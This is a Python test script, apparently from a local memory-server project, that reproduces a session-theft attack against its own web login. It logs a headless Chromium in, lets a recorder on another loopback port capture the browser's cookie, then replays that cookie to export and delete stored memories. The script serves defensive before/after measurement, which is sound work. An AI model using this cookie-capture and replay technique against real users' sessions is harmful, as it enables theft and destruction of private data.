"""Can another local port collect the web page's login and use it? (before → after figures)

Reproduces the attack on the page's login: a real `serve` with 14 memories, Debian's Chromium
logged in through the login URL `serve` printed, then the same browser visits a server on another
loopback port (another OS user's), which records everything it receives. Whatever it received is
then replayed from outside the browser against `/api/export` and `/api/forget`.

    python scripts/web_login_theft.py [--src DIR]    (DIR: the src/ of the tree to test; default: this tree)

Prints one JSON line: what the other port received, and how many memories the replay exported and
deleted. Needs /usr/bin/chromium and playwright (the test extras).
"""

from __future__ import annotations

import argparse
import http.server
import json
import os
import re
import secrets
import signal
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import httpx

ROOT = Path(__file__).resolve().parent.parent
LOGIN = re.compile(r"(http://\S+/[?#]token=\S+)")


class _Recorder(http.server.ThreadingHTTPServer):
    def __init__(self) -> None:
        self.seen: list[dict[str, str]] = []
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(http.server.BaseHTTPRequestHandler):
    server: _Recorder

    def do_GET(self) -> None:
        self.server.seen.append(dict(self.headers.items()))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>another port</title>")

    def log_message(self, *args: Any) -> None:
        pass


def _serve(src: Path, store: Path, token: str, errpath: Path) -> tuple[subprocess.Popen[bytes], str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("DSH_MEMORY_")}
    env.update(PYTHONPATH=str(src), DSH_MEMORY_TOKEN=token, DSH_MEMORY_VECTOR="off", XDG_STATE_HOME=str(store.parent))
    with errpath.open("wb") as err:
        proc = subprocess.Popen(
            [sys.executable, "-m", "dsh_memory_mcp", "serve", "--store-dir", str(store), "--port", "0"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=err,
            env=env,
        )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        found = LOGIN.search(errpath.read_text(encoding="utf-8", errors="replace"))
        if found:
            return proc, found.group(1)
        if proc.poll() is not None:
            break
        time.sleep(0.1)
    proc.kill()
    raise SystemExit(f"serve did not start:\n{errpath.read_text(encoding='utf-8', errors='replace')}")


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--src", type=Path, default=ROOT / "src")
    args = parser.parse_args()
    sys.path.insert(0, str(args.src))
    from playwright.sync_api import sync_playwright

    from dsh_memory_mcp.store.shared import SharedStore

    with tempfile.TemporaryDirectory() as tmp:
        store = Path(tmp) / "store"
        shared = SharedStore(str(store))
        shared.prepare()
        ids = [shared.save("global", f"第 {i} 条只有本机用户该看到的记忆").record.id for i in range(14)]
        shared.close()
        token = secrets.token_urlsafe(32)
        proc, login_url = _serve(args.src, store, token, Path(tmp) / "serve.stderr")
        base = login_url.split("/?")[0].split("/#")[0]
        recorder = _Recorder()
        thread = threading.Thread(target=recorder.serve_forever, daemon=True)
        thread.start()
        try:
            with sync_playwright() as p:
                browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--headless", "--no-sandbox"])
                page = browser.new_page()
                page.goto(login_url)
                page.wait_for_selector("html[data-ready=true]", timeout=60_000)
                page.goto(f"http://127.0.0.1:{recorder.server_address[1]}/")
                browser.close()
            received = [h for h in recorder.seen]
            cookies = [h.get("Cookie", "") for h in received if h.get("Cookie")]
            replay = {"Cookie": cookies[0]} if cookies else {}
            export = httpx.get(base + "/api/export", headers=replay, timeout=30)
            exported = len(export.text.splitlines()) if export.status_code == 200 else 0
            forget = httpx.post(
                base + "/api/forget",
                content=json.dumps({"ids": [ids[0]]}),
                headers={**replay, "Content-Type": "application/json"},
                timeout=30,
            )
            deleted = forget.json().get("deleted", 0) if forget.status_code == 200 else 0
        finally:
            recorder.shutdown()
            recorder.server_close()
            proc.send_signal(signal.SIGTERM)
            proc.wait(timeout=30)
        print(
            json.dumps(
                {
                    "src": str(args.src),
                    "loginUrlForm": "query" if "/?token=" in login_url else "fragment",
                    "otherPortRequests": len(received),
                    "otherPortGotCookie": bool(cookies),
                    "exportStatus": export.status_code,
                    "memoriesExported": exported,
                    "forgetStatus": forget.status_code,
                    "memoriesDeleted": deleted,
                },
                ensure_ascii=False,
            )
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
